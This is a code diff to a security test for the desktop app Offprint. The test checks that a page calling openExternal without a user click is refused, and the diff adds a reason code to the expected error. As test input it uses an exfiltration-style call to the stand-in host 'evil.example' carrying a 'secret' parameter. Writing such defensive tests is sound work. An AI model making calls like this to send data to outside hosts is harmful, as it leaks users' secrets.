@@ -23,7 +23,10 @@ async function importLinks(app: AppSession, dir: string): Promise<void> {
 test('a page calling openExternal with no click is refused, and so is a script’s click', async ({ launch, profileDir }) => {
   const app = await launch();
   const refused = await app.page.evaluate(() => window.offprint.shell.openExternal('https://evil.example/c?d=secret'));
-  expect(refused).toEqual({ ok: false, error: { code: 'forbidden', message: 'Links open outside Offprint only when you click them.' } });
+  expect(refused).toEqual({
+    ok: false,
+    error: { code: 'forbidden', message: 'Links open outside Offprint only when you click them.', reason: { code: 'linkNotClicked' } },
+  });
 
   await importLinks(app, profileDir);
   await openArticle(app.page, HTML_TITLE);
